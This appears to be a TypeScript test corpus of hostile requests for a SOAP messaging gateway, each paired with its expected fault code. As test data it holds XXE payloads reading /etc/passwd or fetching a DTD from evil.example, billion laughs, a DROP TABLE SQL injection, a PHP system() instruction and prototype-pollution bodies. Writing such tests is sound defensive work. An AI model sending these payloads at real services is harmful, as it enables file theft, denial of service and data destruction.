// The hostile-input corpus (issue 7): requests built to break the SOAP edge, each with the one answer it must
// get. hostile-input.test.ts sends every case to one gateway started with `corpusSettings` and checks the
// fault code, the HTTP status, that no stack text leaks, that the answer stays small, that nothing is written
// and that the gateway still serves a valid request afterwards.
import { gzipSync, deflateSync } from 'node:zlib';
import type { Body } from './edge-client.js';
import {
  message,
  ns,
  pathOf,
  recipient,
  sendMessages,
  sender,
  services,
  soapEnvelope,
  token,
  tokenFields,
  tokenWith,
  utf16,
  withBytes,
  withDeclaration,
  type EnvelopeParts,
} from './envelopes.js';

/** The gateway the corpus expects: small limits, so that crossing them is cheap. */
export const corpusSettings = {
  'pre-auth-chars': 16_384,
  'max-string-chars': 4096,
  'max-attributes': 16,
  'max-name-chars': 64,
  'max-xml-depth': 16,
  'messages-per-request': 5,
  'recipients-per-message': 5,
  'presentities-per-request': 5,
  'directory-batch': 5,
  'items-per-list': 5,
  'max-messages-per-get': 100,
} as const;

/** Accounts the corpus uses: alice sends, bob receives, carol is the health check, dave reads back. */
export const corpusAccounts = ['alice', 'bob', 'carol', 'dave'] as const;

/** The answer a case must get: a Parlay X code, 'OK' (HTTP 200, no fault) or 'HTTP405' (a refused method). */
export type Expected = string;

export interface HostileCase {
  readonly group: string;
  readonly name: string;
  readonly code: Expected;
  /** HTTP status; default 500 for a fault, 200 for OK. */
  readonly status?: number;
  readonly path?: string;
  readonly method?: string;
  readonly headers?: Readonly<Record<string, string>>;
  /** Called at send time, so every request carries a fresh nonce. */
  readonly body?: () => Body;
  /** Sent first, to `path`, and expected to succeed (the replay cases). */
  readonly prime?: () => { readonly path: string; readonly body: Body };
  /** Instead of an ordinary request: the head and first bytes of a raw HTTP exchange that promises more. */
  readonly raw?: () => { readonly head: string; readonly bytes?: Uint8Array | string };
  /** Inbox entries the request adds (accepted SendMessages); 0 unless given. */
  readonly writes?: number;
  /**
   * A guard against a hang or a quadratic blow-up (on 1 MB inputs one takes minutes), not a timing: about ten
   * times what a loaded machine needs, so only a broken parser trips it.
   */
  readonly hangGuardMs?: number;
}

const im = pathOf('InstantMessaging');
const im12 = pathOf('InstantMessaging', '1.2');

const cases: HostileCase[] = [];
let group = '';
const add = (name: string, code: Expected, body: () => Body, more: Partial<HostileCase> = {}) =>
  void cases.push({ group, name, code, body, ...more });
const env = (parts: EnvelopeParts = {}) => soapEnvelope(parts);
const env12 = (parts: EnvelopeParts = {}) => soapEnvelope({ version: '1.2', ...parts });
const header = (inner: string) => `<soap:Header>${inner}</soap:Header>`;
const foreign = (local: string, attributes = '', content = '1') =>
  `<x:${local} xmlns:x="urn:x"${attributes ? ' ' + attributes : ''}>${content}</x:${local}>`;
const repeat = (text: string, n: number) => text.repeat(n);
/** `xml` cut where `marker` is (the marker dropped): what comes before it, and what after. */
function splitAt(xml: string, marker: string): readonly [string, string] {
  const at = xml.indexOf(marker);
  if (at < 0) throw new Error(`marker ${marker} not found`);
  return [xml.slice(0, at), xml.slice(at + marker.length)];
}
/** A body generated in 1 MB pieces: the first part of `around`, `fill` repeated up to `bytes`, the second part. */
const streamed = (around: () => readonly [string, string], fill: string, bytes: number) => () => {
  const [head, tail] = around();
  return function* () {
    yield head;
    const piece = fill.repeat(Math.ceil((1 << 20) / fill.length));
    for (let sent = 0; sent < bytes; sent += piece.length) yield piece;
    yield tail;
  };
};
/** A fresh envelope cut at `@@`, placed by `parts`. */
const around = (parts: EnvelopeParts) => () => splitAt(env(parts), '@@');

// ---------------------------------------------------------------------------------------------------------
group = 'prototype pollution';
export const reservedNames = [
  '__proto__',
  'constructor',
  'prototype',
  '__defineGetter__',
  '__defineSetter__',
  '__lookupGetter__',
  '__lookupSetter__',
  'isPrototypeOf',
  'propertyIsEnumerable',
  'toLocaleString',
  'hasOwnProperty',
  'valueOf',
  'toString',
] as const;

for (const name of reservedNames) {
  add(`element ${name} as the root`, 'SVC1007', () => `<${name}><a/></${name}>`);
  add(`element ${name} as an Envelope child`, 'SVC1007', () => env({ beforeHeader: `<soap:${name}/>` }));
  add(`element ${name} as a header entry`, 'SVC1007', () => env({ afterSecurity: foreign(name) }));
  add(`element ${name} nested in a foreign header entry`, 'SVC1007', () =>
    env({ beforeSecurity: foreign('outer', '', foreign('inner', '', foreign(name))) }),
  );
  add(`element ${name} in wsse:Security`, 'SVC1007', () => env({ security: tokenFields({ after: `<wsse:${name}>1</wsse:${name}>` }) }));
  add(`element ${name} in the UsernameToken`, 'SVC1007', () => env({ security: tokenFields({ extra: `<wsse:${name}>1</wsse:${name}>` }) }));
  add(`element ${name} as the operation`, 'SVC1007', () =>
    env({ operationElement: `<im:${name}><im:maxMessages>1</im:maxMessages></im:${name}>` }),
  );
  add(`element ${name} in the operation`, 'SVC1007', () => env({ inner: `<im:maxMessages>1</im:maxMessages><im:${name}>1</im:${name}>` }));
  add(`element ${name} in a message`, 'SVC1007', () => sendMessages(`<im:${name}>x</im:${name}>`));
  add(`unqualified element ${name} in a recipient`, 'SVC1007', () =>
    env({
      operation: 'SendMessages',
      inner: `<im:message><im:recipient><${name}>x</${name}></im:recipient><im:content>aGk=</im:content></im:message>`,
    }),
  );
  add(`attribute ${name} on the operation`, 'SVC1007', () => env({ operationAttributes: `${name}="1"` }));
  add(`attribute ${name} on a header entry`, 'SVC1007', () => env({ afterSecurity: foreign('h', `${name}="1"`) }));
  add(`namespace prefix ${name} on a message child`, 'SVC1007', () =>
    sendMessages(`<${name}:subject xmlns:${name}="${services.InstantMessaging}">x</${name}:subject>`),
  );
}
add('id="__proto__" on the operation', 'SVC1010', () => env({ operationAttributes: 'id="__proto__"' }));
add('id="__proto__" on a header entry', 'SVC1010', () => env({ afterSecurity: foreign('h', 'id="__proto__"') }));
add('id="__proto__" on the Security header', 'SVC1010', () => env({ security: tokenWith('id="__proto__"') }));
add('id="__proto__" on an entry of a second Header', 'SVC1013', () =>
  env({ betweenHeaderAndBody: header(foreign('h', 'id="__proto__"')) }),
);
add('id="__proto__" on a second Header itself', 'SVC1010', () => env({ betweenHeaderAndBody: '<soap:Header id="__proto__"/>' }));
add('href="#__proto__" on a message child', 'SVC1010', () => sendMessages('<im:subject href="#__proto__"/>'));
add('href="#constructor" on a message child', 'SVC1010', () => sendMessages('<im:subject href="#constructor"/>'));
add('href="#__proto__" on the operation', 'SVC1010', () => env({ operationAttributes: 'href="#__proto__"' }));
add('a multiRef id="constructor" after the operation', 'SVC1010', () =>
  env({ afterOperation: '<multiRef id="constructor"><x>1</x></multiRef>' }),
);
add('entity reference &__proto__;', 'SVC1002', () => sendMessages('<im:subject>&__proto__;</im:subject>'));
add('entity reference &constructor;', 'SVC1002', () => sendMessages('<im:subject>&constructor;</im:subject>'));
add('entity reference &toString; in the header', 'SVC1002', () => env({ afterSecurity: foreign('h', '', '&toString;') }));
add('CDATA holding an XML document with id="__proto__" in an xsd:int', 'SVC0002', () =>
  env({ inner: '<im:maxMessages><![CDATA[<?xml version="1.0"?><x id="__proto__">1</x>]]></im:maxMessages>' }),
);
add('CDATA holding an XML document in the Body', 'SVC1013', () =>
  env({ beforeOperation: '<![CDATA[<?xml version="1.0"?><im:GetMessages/>]]>' }),
);
add('CDATA holding an XML document as a messageId stays text (unknown id)', 'SVC2001', () =>
  env({
    operation: 'GetDeliveryStatus',
    inner: '<im:messageId><![CDATA[<?xml version="1.0"?><__proto__ id="constructor"/>]]></im:messageId>',
  }),
);
add(
  'CDATA holding an XML document as a subject is accepted as text',
  'OK',
  () => sendMessages('<im:subject><![CDATA[<?xml version="1.0"?><x id="__proto__"><constructor/></x>]]></im:subject>'),
  { writes: 1 },
);
add(
  'text "__proto__" as a clientMessageId is accepted as text',
  'OK',
  () => sendMessages('<im:clientMessageId>__proto__</im:clientMessageId>'),
  { writes: 1 },
);
add('text "constructor" as a subject is accepted as text', 'OK', () => sendMessages('<im:subject>constructor</im:subject>'), { writes: 1 });
add('text "__proto__" as a messageId (unknown id)', 'SVC2001', () =>
  env({ operation: 'GetDeliveryStatus', inner: '<im:messageId>__proto__</im:messageId>' }),
);
add('text "toString" as the ackToken', 'OK', () => env({ inner: '<im:ackToken>toString</im:ackToken>' }));
add('text "__proto__" as a Username', 'SVC1102', () => env({ security: token('__proto__') }));

// ---------------------------------------------------------------------------------------------------------
group = 'error text leaks';
add('a sequenceNumber beyond 2^53', 'SVC0002', () =>
  env({ operation: 'AckMessages', inner: '<im:sequenceNumber>99999999999999999999999</im:sequenceNumber>' }),
);
add('maxMessages of 2^31', 'SVC0002', () => env({ inner: '<im:maxMessages>2147483648</im:maxMessages>' }));
add('maxMessages of 0', 'SVC0002', () => env({ inner: '<im:maxMessages>0</im:maxMessages>' }));
add('waitSeconds of -1', 'SVC0002', () => env({ inner: '<im:waitSeconds>-1</im:waitSeconds>' }));
add("another caller's inbox", 'POL1004', () => env({ inner: `<im:inbox>${recipient}</im:inbox>` }));
add('SQL in a messageId', 'SVC2001', () =>
  env({ operation: 'GetDeliveryStatus', inner: "<im:messageId>' OR 1=1; DROP TABLE messages; --</im:messageId>" }),
);
add('format directives and %1 placeholders in a messageId', 'SVC2001', () =>
  env({ operation: 'GetDeliveryStatus', inner: '<im:messageId>%s%n%x%1%2%99 ${process.env} {{7*7}}</im:messageId>' }),
);
add('a messageId of whitespace only (an unknown id)', 'SVC2001', () =>
  env({ operation: 'GetDeliveryStatus', inner: '<im:messageId>   </im:messageId>' }),
);
add('a GetDeliveryStatus without messageId', 'SVC0002', () => env({ operation: 'GetDeliveryStatus', inner: '' }));
add('a message given as text', 'SVC0002', () => env({ operation: 'SendMessages', inner: '<im:message>hello</im:message>' }));
add('an empty message', 'SVC0002', () => env({ operation: 'SendMessages', inner: '<im:message/>' }));
add('SendMessages without messages', 'SVC0002', () => env({ operation: 'SendMessages', inner: '' }));
add('content that is not base64', 'SVC0002', () =>
  env({
    operation: 'SendMessages',
    inner: `<im:message><im:recipient>${recipient}</im:recipient><im:content>!!!</im:content></im:message>`,
  }),
);
add('validitySeconds of 2^31', 'SVC0002', () => sendMessages('<im:validitySeconds>2147483648</im:validitySeconds>'));
add('a priority outside the enumeration', 'SVC0002', () => sendMessages('<im:priority>__proto__</im:priority>'));
add('xsi:nil on a required element', 'SVC0002', () =>
  env({
    operation: 'SendMessages',
    inner: `<im:message><im:recipient>${recipient}</im:recipient><im:content xsi:nil="true" xmlns:xsi="${ns.xsi}"/></im:message>`,
  }),
);
add(
  'an availability outside the enumeration (Presence)',
  'SVC0002',
  () => env({ service: 'Presence', operation: 'PublishPresence', inner: '<im:availability>constructor</im:availability>' }),
  { path: pathOf('Presence') },
);
add(
  'an unknown contact list (ContactLists)',
  'SVC3001',
  () => env({ service: 'ContactLists', operation: 'DeleteContactList', inner: '<im:name>__proto__</im:name>' }),
  { path: pathOf('ContactLists') },
);
add(
  'an administration call by a user (Administration)',
  'POL1005',
  () => env({ service: 'Administration', operation: 'ListPeers', inner: '' }),
  { path: pathOf('Administration') },
);

// ---------------------------------------------------------------------------------------------------------
group = 'parser differentials';
add('an XML 1.1 declaration', 'SVC1013', () => withDeclaration(env(), '<?xml version="1.1" encoding="utf-8"?>'));
add('an XML 1.1 declaration on the SOAP 1.2 path', 'SVC1013', () => withDeclaration(env12(), '<?xml version="1.1"?>'), { path: im12 });
add('an XML 2.0 declaration (not XML at all for saxes)', 'SVC1002', () => withDeclaration(env(), '<?xml version="2.0"?>'));
add('&#x1; in a subject', 'SVC1002', () => sendMessages('<im:subject>a&#x1;b</im:subject>'));
add('&#x1; in the header', 'SVC1002', () => env({ afterSecurity: foreign('h', '', '&#x1;') }));
add('&#0; in a subject', 'SVC1002', () => sendMessages('<im:subject>&#0;</im:subject>'));
add('&#xFFFE; in a subject', 'SVC1002', () => sendMessages('<im:subject>&#xFFFE;</im:subject>'));
add('&#xD800; (a lone surrogate) in a subject', 'SVC1002', () => sendMessages('<im:subject>&#xD800;</im:subject>'));
add('&#x110000; (beyond Unicode) in a subject', 'SVC1002', () => sendMessages('<im:subject>&#x110000;</im:subject>'));
add('a raw U+0001 in a subject', 'SVC1002', () => sendMessages('<im:subject>a\u0001b</im:subject>'));
add('a raw U+FFFF in a subject', 'SVC1002', () => sendMessages('<im:subject>a\uFFFFb</im:subject>'));
add('a NUL byte in the header', 'SVC1002', () => env({ afterSecurity: foreign('h', '', 'a\u0000b') }));
add('a UTF-8 BOM before a valid SendMessages', 'OK', () => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(sendMessages())]), {
  writes: 1,
});
add('two UTF-8 BOMs', 'SVC1002', () => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf]), Buffer.from(sendMessages())]));
const utf16Declaration = (xml: string) => withDeclaration(xml, '<?xml version="1.0" encoding="UTF-16"?>');
add('a valid SendMessages in UTF-16LE with a BOM', 'OK', () => utf16(utf16Declaration(sendMessages()), 'le', true), {
  writes: 1,
  headers: { 'content-type': 'text/xml; charset=utf-16' },
});
add('a valid SendMessages in UTF-16BE with a BOM', 'OK', () => utf16(utf16Declaration(sendMessages()), 'be', true), {
  writes: 1,
  headers: { 'content-type': 'text/xml; charset=utf-16' },
});
add('a valid SendMessages in UTF-16LE without a BOM', 'OK', () => utf16(utf16Declaration(sendMessages()), 'le', false), {
  writes: 1,
  headers: { 'content-type': 'text/xml; charset=utf-16le' },
});
add('a valid SendMessages in UTF-16BE without a BOM', 'OK', () => utf16(utf16Declaration(sendMessages()), 'be', false), {
  writes: 1,
  headers: { 'content-type': 'text/xml; charset=utf-16be' },
});
add('a valid SendMessages in UTF-16LE with a BOM and no charset', 'OK', () => utf16(sendMessages(), 'le', true), {
  writes: 1,
  headers: { 'content-type': 'text/xml' },
});
add(
  'a valid SendMessages in UTF-16 on the SOAP 1.2 path',
  'OK',
  () => utf16(utf16Declaration(sendMessages('', { version: '1.2' })), 'be', true),
  {
    writes: 1,
    path: im12,
    headers: { 'content-type': 'application/soap+xml; charset=utf-16' },
  },
);
add('UTF-16LE declared as charset=utf-8', 'SVC1009', () => utf16(sendMessages(), 'le', true));
add('UTF-16BE declared as charset=utf-16le', 'SVC1009', () => utf16(sendMessages(), 'be', false), {
  headers: { 'content-type': 'text/xml; charset=utf-16le' },
});
add('UTF-8 declared as charset=utf-16', 'SVC1009', () => sendMessages(), { headers: { 'content-type': 'text/xml; charset=utf-16' } });
add('charset=iso-8859-1', 'SVC1009', () => sendMessages(), { headers: { 'content-type': 'text/xml; charset=iso-8859-1' } });
add('charset=windows-1252', 'SVC1009', () => sendMessages(), { headers: { 'content-type': 'text/xml; charset=windows-1252' } });
add('charset=utf-7', 'SVC1009', () => sendMessages(), { headers: { 'content-type': 'text/xml; charset="UTF-7"' } });
add('charset=utf-32', 'SVC1009', () => sendMessages(), { headers: { 'content-type': 'text/xml; charset=utf-32' } });
add('ISO-8859-1 declared in the XML declaration', 'SVC1009', () =>
  withDeclaration(sendMessages(), '<?xml version="1.0" encoding="ISO-8859-1"?>'),
);
// The bytes are decoded before the declaration is read: Latin-1 letters are invalid UTF-8 first.
add('ISO-8859-1 declared in the XML declaration with Latin-1 bytes', 'SVC1002', () =>
  Buffer.from(withDeclaration(sendMessages('<im:subject>caf\u00e9</im:subject>'), '<?xml version="1.0" encoding="ISO-8859-1"?>'), 'latin1'),
);
add('UTF-7 declared in the XML declaration', 'SVC1009', () => withDeclaration(sendMessages(), '<?xml version="1.0" encoding="UTF-7"?>'));
add('EBCDIC declared in the XML declaration', 'SVC1009', () => withDeclaration(env(), '<?xml version="1.0" encoding="IBM037"?>'));
add('a UTF-32LE BOM', 'SVC1002', () => Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), Buffer.from(env(), 'utf16le')]), {
  headers: { 'content-type': 'text/xml' },
});
add('a UTF-32LE BOM declared as charset=utf-8', 'SVC1009', () =>
  Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), Buffer.from(env(), 'utf16le')]),
);
add('a UTF-16LE BOM before UTF-8 text', 'SVC1002', () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(env())]), {
  headers: { 'content-type': 'text/xml' },
});
add('a UTF-8 BOM inside a UTF-16 body (two BOMs)', 'SVC1002', () => utf16('\uFEFF' + env(), 'le', true), {
  headers: { 'content-type': 'text/xml' },
});
add('UTF-16LE with an odd number of bytes', 'SVC1002', () => Buffer.concat([utf16(env(), 'le', true), Buffer.from([0x20])]), {
  headers: { 'content-type': 'text/xml' },
});
add(
  'UTF-16LE with a lone surrogate',
  'SVC1002',
  () => Buffer.concat([utf16('<soap:Envelope', 'le', true), Buffer.from([0x00, 0xd8]), utf16('/>', 'le', false)]),
  { headers: { 'content-type': 'text/xml' } },
);
const invalidUtf8: Record<string, readonly number[]> = {
  'a lone continuation byte': [0x80],
  'a broken two-byte sequence': [0xc3, 0x28],
  'an overlong encoding of /': [0xc0, 0xaf],
  'a UTF-8 encoded surrogate': [0xed, 0xa0, 0x80],
  'the byte 0xFF': [0xff],
  'a code point beyond U+10FFFF': [0xf4, 0x90, 0x80, 0x80],
};
for (const [name, bytes] of Object.entries(invalidUtf8)) {
  add(`invalid UTF-8 (${name}) in the header`, 'SVC1002', () => withBytes(env({ afterSecurity: foreign('h', '', '@@') }), '@@', bytes));
  add(`invalid UTF-8 (${name}) in a subject`, 'SVC1002', () => withBytes(sendMessages('<im:subject>@@</im:subject>'), '@@', bytes));
}
add('a truncated UTF-8 sequence at the end', 'SVC1002', () => Buffer.concat([Buffer.from(env()), Buffer.from([0xe2, 0x82])]));
add('random binary', 'SVC1002', () => Buffer.from(Array.from({ length: 512 }, (_, i) => (i * 151 + 7) % 256)));
add('a JSON body', 'SVC1002', () => '{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}');
add('a whitespace-only body', 'SVC1002', () => '   \n  ');
add('a processing instruction in the header', 'SVC1013', () => env({ afterSecurity: '<?php system("id"); ?>' }));
add('a processing instruction before the Envelope', 'SVC1013', () =>
  withDeclaration(env(), '<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?>'),
);
add('a processing instruction in the operation', 'SVC1013', () => env({ inner: '<?x y?><im:maxMessages>1</im:maxMessages>' }));
add('a processing instruction in a subject', 'SVC1013', () => sendMessages('<im:subject>a<?x y?>b</im:subject>'));
add('a processing instruction after the Envelope', 'SVC1013', () => env({ epilog: '<?x y?>' }));
add('an XML declaration not at the start', 'SVC1002', () => ' ' + env());
add('a second XML declaration', 'SVC1002', () => '<?xml version="1.0"?>' + env());
add('a DOCTYPE with an internal subset', 'SVC1003', () =>
  withDeclaration(env(), '<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ELEMENT x ANY>]>'),
);
add('a DOCTYPE with an external SYSTEM id (XXE)', 'SVC1003', () => withDeclaration(env(), '<!DOCTYPE x SYSTEM "file:///etc/passwd">'));
add('a DOCTYPE with a PUBLIC id', 'SVC1003', () =>
  withDeclaration(env(), '<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">'),
);
add('an external entity used in a subject (XXE)', 'SVC1003', () =>
  withDeclaration(sendMessages('<im:subject>&xxe;</im:subject>'), '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
);
add('a parameter entity (out-of-band XXE)', 'SVC1003', () =>
  withDeclaration(env(), '<!DOCTYPE x [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]>'),
);
add('billion laughs', 'SVC1003', () =>
  withDeclaration(
    sendMessages('<im:subject>&lol4;</im:subject>'),
    '<!DOCTYPE x [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>',
  ),
);
add('a DOCTYPE inside the Envelope', 'SVC1002', () => env({ beforeHeader: '<!DOCTYPE x>' }));
add('an undefined entity', 'SVC1002', () => sendMessages('<im:subject>&nbsp;</im:subject>'));
add('an unclosed element at the end', 'SVC1002', () => env().replace('</soap:Envelope>', ''));
add('an unclosed Header', 'SVC1002', () => env().replace('</soap:Header>', ''));
add('mismatched tags in a message', 'SVC1002', () => sendMessages('<im:subject>x</im:subjekt>'));
add('mismatched tags in the header', 'SVC1002', () => env({ afterSecurity: '<x:a xmlns:x="urn:x"></x:b>' }));
add('a duplicate attribute', 'SVC1002', () => env({ operationAttributes: 'a="1" a="2"' }));
add('a duplicate attribute through two prefixes of one namespace', 'SVC1002', () =>
  env({ operationAttributes: 'xmlns:p="urn:p" xmlns:q="urn:p" p:a="1" q:a="2"' }),
);
add('an unbound element prefix', 'SVC1002', () => env({ afterSecurity: '<nope:h>1</nope:h>' }));
add('an unbound attribute prefix', 'SVC1002', () => env({ operationAttributes: 'nope:a="1"' }));
add('an unbound prefix on the operation', 'SVC1002', () => env({ operationElement: '<nope:GetMessages/>' }));
add('an undeclared namespace (xmlns:p="")', 'SVC1002', () => env({ operationAttributes: 'xmlns:im=""' }));
add('a rebound xml prefix', 'SVC1002', () => env({ operationAttributes: 'xmlns:xml="urn:not-xml"' }));
add('text after the root', 'SVC1002', () => env({ epilog: 'trailing text' }));
add('a second root element', 'SVC1002', () => env({ epilog: '<soap:Envelope/>' }));
add('a second Envelope', 'SVC1002', () => env() + env().replace('<?xml version="1.0" encoding="utf-8"?>', ''));
add('CDATA after the root', 'SVC1002', () => env({ epilog: '<![CDATA[x]]>' }));
add('"<" in an attribute value', 'SVC1002', () => env({ operationAttributes: 'a="<"' }));
add('an unquoted attribute', 'SVC1002', () => env({ operationAttributes: 'a=1' }));
add('"--" inside a comment', 'SVC1002', () => env({ beforeHeader: '<!-- a -- b -->' }));
add(
  'a comment splitting a recipient is read as one text',
  'OK',
  () =>
    env({
      operation: 'SendMessages',
      inner: `<im:message><im:recipient>bob@<!-- - -->example.com</im:recipient><im:content>aGk=</im:content></im:message>`,
    }),
  { writes: 1 },
);

// ---------------------------------------------------------------------------------------------------------
group = 'fault size';
add(
  'a 10 MB messageId',
  'POL1009',
  streamed(around({ operation: 'GetDeliveryStatus', inner: '<im:messageId>@@</im:messageId>' }), 'x', 10 << 20),
  { hangGuardMs: 50_000 },
);
add('a 4000-character unknown messageId', 'SVC2001', () =>
  env({ operation: 'GetDeliveryStatus', inner: `<im:messageId>${repeat('m', 4000)}</im:messageId>` }),
);
add('a 1 MB element name in the header', 'POL1006', () => env({ afterSecurity: `<${repeat('h', 1 << 20)}/>` }), { hangGuardMs: 30_000 });
add('a 10 kB element name in the header', 'SVC1012', () => env({ afterSecurity: `<${repeat('h', 10_000)}/>` }));
add('a 1 MB element name in a message', 'SVC1012', () => sendMessages(`<im:${repeat('s', 1 << 20)}>x</im:${repeat('s', 1 << 20)}>`), {
  hangGuardMs: 30_000,
});
add('a 1 MB closing tag name in a message', 'SVC1002', () => sendMessages(`<im:subject>x</im:${repeat('s', 1 << 20)}>`), {
  hangGuardMs: 30_000,
});
add('a 1 MB attribute name in a message', 'SVC1012', () => sendMessages(`<im:subject ${repeat('a', 1 << 20)}="1">x</im:subject>`), {
  hangGuardMs: 30_000,
});
add('a 10 kB attribute name in the header', 'SVC1012', () => env({ afterSecurity: foreign('h', `${repeat('a', 10_000)}="1"`) }));
add('a 100 kB attribute value in the header', 'POL1006', () => env({ afterSecurity: foreign('h', `a="${repeat('v', 100_000)}"`) }));
add('a 100 kB attribute value on the operation', 'POL1006', () => env({ operationAttributes: `a="${repeat('v', 100_000)}"` }));
add('a 100 kB href on a message child', 'SVC1010', () => sendMessages(`<im:subject href="${repeat('#', 100_000)}"/>`));
add('a 100 kB attribute value on an unknown element', 'SVC0002', () => sendMessages(`<im:unknown a="${repeat('v', 100_000)}"/>`));
add('a 10 kB namespace on the operation', 'SVC1008', () => env({ operationElement: `<GetMessages xmlns="urn:${repeat('n', 10_000)}"/>` }));
add(
  'a 10 kB namespace on the Envelope',
  'SVC1006',
  () => `<soap:Envelope xmlns:soap="urn:${repeat('n', 10_000)}"><soap:Body/></soap:Envelope>`,
);
add('a 60-character unknown operation', 'SVC1005', () => env({ operation: repeat('Op', 30), inner: '' }));
add('a 1 MB unknown operation name', 'POL1006', () => env({ operation: repeat('Op', 1 << 19), inner: '' }), { hangGuardMs: 30_000 });
add('1 MB of text after the operation', 'SVC1013', () => env({ afterOperation: repeat('t', 1 << 20) }), { hangGuardMs: 30_000 });
add('1 MB of text in a 1 MB-deep unknown subtree', 'SVC0002', () => sendMessages(`<im:x>${repeat('t', 1 << 20)}</im:x>`), {
  hangGuardMs: 30_000,
});
add(
  'a 3 MB recipient',
  'POL1009',
  () =>
    env({
      operation: 'SendMessages',
      inner: `<im:message><im:recipient>${repeat('r', 3 << 20)}</im:recipient><im:content>aGk=</im:content></im:message>`,
    }),
  { hangGuardMs: 30_000 },
);
add('a 1 MB comment after authentication is ignored', 'OK', () => env({ afterOperation: `<!--${repeat('c', 1 << 20)}-->` }), {
  hangGuardMs: 30_000,
});
add(
  'a 4000-character list name (ContactLists)',
  'SVC3001',
  () => env({ service: 'ContactLists', operation: 'DeleteContactList', inner: `<im:name>${repeat('l', 4000)}</im:name>` }),
  { path: pathOf('ContactLists') },
);
add('a 4000-character Username', 'SVC1106', () => env({ security: token(repeat('u', 4000)) }));

// ---------------------------------------------------------------------------------------------------------
group = 'SOAP processing rules';
const versions = [
  ['1.1', im, env, ns.actorNext, 'actor', '1'],
  ['1.2', im12, env12, ns.roleNext, 'role', 'true'],
] as const;
for (const [version, path, envelope, next, actor, yes] of versions) {
  const v = `SOAP ${version}: `;
  const at = { path };
  add(
    `${v}Security addressed to ${actor} next with mustUnderstand (Apache Axis)`,
    'OK',
    () => envelope({ security: tokenWith(`soap:${actor}="${next}" soap:mustUnderstand="${yes}"`) }),
    at,
  );
  add(
    `${v}Security with mustUnderstand and no ${actor}`,
    'OK',
    () => envelope({ security: tokenWith(`soap:mustUnderstand="${yes}"`) }),
    at,
  );
  add(
    `${v}Security addressed to ${actor} next with spaces around it`,
    'OK',
    () => envelope({ security: tokenWith(`soap:${actor}=" ${next} "`) }),
    at,
  );
  add(
    `${v}Security with an unqualified ${actor} attribute (not the SOAP one)`,
    'OK',
    () => envelope({ security: tokenWith(`${actor}="urn:somebody-else"`) }),
    at,
  );
  add(
    `${v}the only Security addressed to another ${actor}`,
    'SVC1101',
    () => envelope({ security: tokenWith(`soap:${actor}="urn:somebody-else"`) }),
    at,
  );
  add(
    `${v}a Security for another ${actor} beside ours`,
    'OK',
    () => envelope({ beforeSecurity: tokenWith(`soap:${actor}="urn:somebody-else"`, 'mallory@example.com') }),
    at,
  );
  add(`${v}two Security headers addressed here`, 'SVC1014', () => envelope({ afterSecurity: token() }), at);
  add(
    `${v}two Security headers, one addressed to ${actor} next`,
    'SVC1014',
    () => envelope({ afterSecurity: tokenWith(`soap:${actor}="${next}"`) }),
    at,
  );
  add(
    `${v}an unknown header with mustUnderstand="${yes}"`,
    'SVC1011',
    () => envelope({ afterSecurity: foreign('h', `soap:mustUnderstand="${yes}"`) }),
    at,
  );
  add(
    `${v}an unknown header with mustUnderstand="${yes}" before Security`,
    'SVC1011',
    () => envelope({ beforeSecurity: foreign('h', `soap:mustUnderstand="${yes}"`) }),
    at,
  );
  add(
    `${v}an unknown header with mustUnderstand=" ${yes} "`,
    'SVC1011',
    () => envelope({ afterSecurity: foreign('h', `soap:mustUnderstand=" ${yes} "`) }),
    at,
  );
  add(
    `${v}an unknown header with mustUnderstand addressed to ${actor} next`,
    'SVC1011',
    () => envelope({ afterSecurity: foreign('h', `soap:mustUnderstand="${yes}" soap:${actor}="${next}"`) }),
    at,
  );
  add(
    `${v}WS-Addressing Action with mustUnderstand`,
    'SVC1011',
    () => envelope({ afterSecurity: `<wsa:Action xmlns:wsa="${ns.wsa}" soap:mustUnderstand="${yes}">urn:x</wsa:Action>` }),
    at,
  );
  add(
    `${v}an unknown header with mustUnderstand="0" is ignored`,
    'OK',
    () => envelope({ afterSecurity: foreign('h', 'soap:mustUnderstand="0"') }),
    at,
  );
  add(
    `${v}an unknown header with mustUnderstand="false" is ignored`,
    'OK',
    () => envelope({ afterSecurity: foreign('h', 'soap:mustUnderstand="false"') }),
    at,
  );
  add(
    `${v}an unknown header with mustUnderstand for another ${actor} is ignored`,
    'OK',
    () => envelope({ afterSecurity: foreign('h', `soap:mustUnderstand="${yes}" soap:${actor}="urn:somebody-else"`) }),
    at,
  );
  add(
    `${v}an unqualified mustUnderstand is not the SOAP attribute`,
    'OK',
    () => envelope({ afterSecurity: foreign('h', 'mustUnderstand="1"') }),
    at,
  );
  add(
    `${v}mustUnderstand inside a header entry is not a header block`,
    'OK',
    () => envelope({ afterSecurity: foreign('h', '', foreign('inner', `soap:mustUnderstand="${yes}"`)) }),
    at,
  );
  add(`${v}an unknown header without mustUnderstand is ignored`, 'OK', () => envelope({ afterSecurity: foreign('h') }), at);
  add(`${v}a Body in a foreign namespace`, 'SVC1013', () => envelope({ bodyTag: 'x:Body', envelopeAttributes: 'xmlns:x="urn:x"' }), at);
  add(
    `${v}a Body in the other SOAP version's namespace`,
    'SVC1013',
    () => envelope({ bodyTag: 'o:Body', envelopeAttributes: `xmlns:o="${version === '1.1' ? ns.soap12 : ns.soap11}"` }),
    at,
  );
  add(
    `${v}a Header in the other SOAP version's namespace`,
    'SVC1013',
    () => envelope({ header: `<o:Header xmlns:o="${version === '1.1' ? ns.soap12 : ns.soap11}">${token()}</o:Header>` }),
    at,
  );
